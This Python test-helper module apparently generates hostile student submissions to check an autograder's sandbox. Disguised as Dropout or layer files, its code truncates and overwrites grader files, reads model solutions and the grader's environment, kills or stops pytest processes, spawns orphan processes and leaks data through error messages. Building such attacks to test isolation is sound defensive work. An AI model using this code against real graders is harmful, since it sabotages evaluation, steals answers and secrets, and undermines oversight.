"""Attacks on the grader itself (issue 9), each a function of its targets, run by a Dropout.py at import.

Every attack is real code that works where no wall stands: tests/test_isolation.py first runs it
in a plain process against decoys and sees the damage, then runs it inside the worker against the
real targets and sees none. A submission made of them (`attacking_submission`) runs every attack
when it is imported, and again at every call, then behaves as a Dropout that never drops (worth no
Dropout points); whatever an attack reads it tries to smuggle out through its exception text.

Targets (a JSON object the test writes into the file): "files" to damage, "solution" (a model
solution's path to read), "victim" (a pid to signal; default: the worker's parent, the grader,
also searched for in /proc), "fifo" (a path to block), "port" (a listening TCP port), "marker"
(a path a process left behind would create).
"""
import json

ATTACKS = r'''
import errno, json, mmap, os, signal, socket, subprocess, time


def _grader_pids(targets):
    if targets.get("victim"):  # a decoy: the control run must not find the real grader
        return [targets["victim"]]
    pids = {os.getppid()}
    try:  # the grader by its command line, as an attacker who knows nothing would find it
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                with open(f"/proc/{entry}/cmdline", "rb") as stream:
                    if b"pytest" in stream.read():
                        pids.add(int(entry))
    except OSError:
        pass
    return sorted(pids)


def truncate_files(targets):
    for path in targets["files"]:
        os.close(os.open(path, os.O_WRONLY | os.O_TRUNC))


def rewrite_in_place_through_mmap(targets):
    for path in targets["files"]:
        descriptor = os.open(path, os.O_RDWR)
        with mmap.mmap(descriptor, 0) as memory:
            memory[:6] = b"PWNED!"
        os.close(descriptor)


def read_solution_through_dir_fd(targets):
    folder = os.open(os.path.dirname(targets["solution"]), os.O_RDONLY | os.O_DIRECTORY)
    descriptor = os.open(os.path.basename(targets["solution"]), os.O_RDONLY, dir_fd=folder)
    return os.read(descriptor, 200)


def read_grader_environment(targets):
    with open(f"/proc/{_grader_pids(targets)[0]}/environ", "rb") as stream:
        return stream.read(200)


def kill_the_grader(targets):
    for pid in _grader_pids(targets):
        os.kill(pid, signal.SIGKILL)


def stop_the_grader_through_a_pidfd(targets):
    for pid in _grader_pids(targets):
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGSTOP)


def leave_a_process_in_a_new_session(targets):
    subprocess.Popen(["/bin/sh", "-c", f"sleep 1; echo outlived > {targets['marker']}"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def fork_a_child(targets):
    if os.fork() == 0:
        os.setsid()
        time.sleep(1)
        with open(targets["marker"], "w") as stream:
            stream.write("outlived")
        os._exit(0)


def block_the_results_with_a_fifo(targets):
    os.mkfifo(targets["fifo"])


def call_home(targets):
    socket.create_connection(("127.0.0.1", targets["port"]), timeout=2).close()


ALL = [truncate_files, rewrite_in_place_through_mmap, read_solution_through_dir_fd, read_grader_environment,
       kill_the_grader, stop_the_grader_through_a_pidfd, leave_a_process_in_a_new_session, fork_a_child,
       block_the_results_with_a_fifo, call_home]


def attack(targets, only=None):
    """Run the attacks (all, or those named in `only`): {name: what it got, or the error that stopped it}."""
    outcomes = {}
    for function in ALL:
        if only and function.__name__ not in only:
            continue
        try:
            got = function(targets)
            outcomes[function.__name__] = "done" + (f": {got!r}" if got else "")
        except BaseException as error:  # noqa: BLE001
            outcomes[function.__name__] = f"stopped: {type(error).__name__}: {error}"
    return outcomes
'''

IDENTITY_DROPOUT = '''
class Dropout:
    def __init__(self, layer, p=0.5):
        self.layer, self.p = layer, p
        self.weights, self.bias = layer.weights, layer.bias
        _OUTCOMES.update(attack(TARGETS, ONLY))

    def __call__(self, x):
        got = [outcome for outcome in _OUTCOMES.values() if outcome.startswith("done: ")]
        if got:  # smuggle what was read out through the feedback
            raise RuntimeError("LEAKED " + " ".join(got))
        return self.layer(x)

    def grad(self, in_gradient):
        return self.layer.grad(in_gradient)

    def get_type(self):
        return "layer"
'''


def attacking_submission(targets, only=None):
    """A Dropout.py that runs the attacks (all, or those in `only`) at import and at every new layer."""
    return (ATTACKS + f"\nTARGETS = json.loads({json.dumps(json.dumps(targets))})\nONLY = {only!r}\n"
            + "_OUTCOMES = attack(TARGETS, ONLY)\n" + IDENTITY_DROPOUT)


def control_script(targets, only):
    """A plain Python script (no walls) that runs the attacks and prints their outcomes as JSON."""
    return ATTACKS + f"\nprint(json.dumps(attack(json.loads({json.dumps(json.dumps(targets))}), {only!r})))\n"


def _attacks_at_import(targets):
    return (ATTACKS + f"\nTARGETS = json.loads({json.dumps(json.dumps(targets))})\n_OUTCOMES = attack(TARGETS)\n"
            "\n\ndef _smuggle():\n    got = [outcome for outcome in _OUTCOMES.values() if outcome.startswith('done: ')]\n"
            "    if got:  # what was read goes out through the feedback\n"
            "        raise RuntimeError('LEAKED ' + ' '.join(got))\n")


def attacking_cs231n_layers(targets, layers):
    """cs231n's layers.py: every attack at import, then `layers` (a correct one) with a dropout that
    never drops (worth nothing in the dropout parts) and smuggles what the attacks read."""
    return _attacks_at_import(targets) + layers + '''

def dropout_forward(x, dropout_param):
    _smuggle()
    return x, dropout_param


def dropout_backward(dout, cache):
    return dout
'''


def attacking_two_layer_net(targets, net):
    """two_layer_net.py: every attack at import, then `net` (a correct one) whose forward never drops."""
    marker = "D1 = np.random.rand(A1.shape[0], A1.shape[1]) < keep_prob"
    assert marker in net
    return _attacks_at_import(targets) + net.replace(marker, "_smuggle()\n    D1 = np.ones(A1.shape, dtype=bool)")
